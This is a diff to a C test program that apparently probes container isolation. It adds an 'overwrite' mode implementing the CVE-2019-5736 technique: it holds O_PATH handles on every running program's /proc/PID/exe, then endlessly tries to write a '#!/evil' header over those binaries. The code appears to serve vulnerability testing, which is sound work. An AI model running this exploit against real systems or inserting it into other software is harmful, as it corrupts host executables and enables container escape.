@@ -3,6 +3,8 @@
  *   attack        tries every other process but process 1, once: a line for each try,
  *                 "exe RESULT", "fd N RESULT", ...; RESULT is the error, or what was got
  *   attack swap A B   exchanges two names for ever
+ *   attack overwrite  keeps a hold of every program that it sees running, and tries to write to it,
+ *                     while it runs and afterwards, for ever: "seen FILE", "written FILE"
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -124,6 +126,91 @@ attack (pid_t pid)
   close (process);
 }
 
+/* ---- CVE-2019-5736 -----------------------------------------------------------------------------
+ */
+
+enum
+{
+  MOST_PROGRAMS = 64,
+};
+
+struct program
+{
+  int fd; /* O_PATH: it stays, whatever becomes of the process */
+  struct stat file;
+  char name[256];
+  int written;
+};
+
+static void
+keep (struct program *programs, size_t *count, int fd)
+{
+  struct program *program = &programs[*count];
+  char self[64];
+  if (*count == MOST_PROGRAMS || fstat (fd, &program->file) < 0)
+    {
+      close (fd);
+      return;
+    }
+  for (size_t i = 0; i < *count; i++)
+    if (programs[i].file.st_ino == program->file.st_ino
+        && programs[i].file.st_dev == program->file.st_dev)
+      {
+        close (fd);
+        return;
+      }
+  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
+  ssize_t length = readlink (self, program->name, sizeof program->name - 1);
+  program->name[length > 0 ? length : 0] = '\0';
+  program->fd = fd;
+  program->written = 0;
+  (*count)++;
+  say ("seen", program->name);
+}
+
+static void
+overwrite (struct program *program)
+{
+  char self[64];
+  snprintf (self, sizeof self, "/proc/self/fd/%d", program->fd);
+  int fd = program->written ? -1 : open (self, O_WRONLY | O_CLOEXEC);
+  if (fd < 0)
+    return;
+  if (pwrite (fd, "#!/evil\n", 8, 0) > 0)
+    {
+      program->written = 1;
+      say ("written", program->name);
+    }
+  close (fd);
+}
+
+static int
+overwrite_all (void)
+{
+  static struct program programs[MOST_PROGRAMS];
+  size_t count = 0;
+  setvbuf (stdout, NULL, _IOLBF, 0);
+  for (;;)
+    {
+      DIR *directory = opendir ("/proc");
+      struct dirent *entry;
+      while (directory != NULL && (entry = readdir (directory)) != NULL)
+        {
+          char path[300];
+          pid_t pid = (pid_t) strtol (entry->d_name, NULL, 10);
+          snprintf (path, sizeof path, "/proc/%s/exe", entry->d_name);
+          int fd = pid > 1 && pid != getpid () ? open (path, O_PATH | O_CLOEXEC) : -1;
+          if (fd >= 0)
+            keep (programs, &count, fd);
+        }
+      if (directory == NULL)
+        return 1;
+      closedir (directory);
+      for (size_t i = 0; i < count; i++)
+        overwrite (&programs[i]);
+    }
+}
+
 static int
 attack_all (void)
 {
@@ -145,6 +232,8 @@ main (int argc, char **argv)
 {
   if (argc == 1)
     return attack_all ();
+  if (argc == 2 && strcmp (argv[1], "overwrite") == 0)
+    return overwrite_all ();
   if (argc != 4 || strcmp (argv[1], "swap") != 0)
     return 2;
   for (;;)
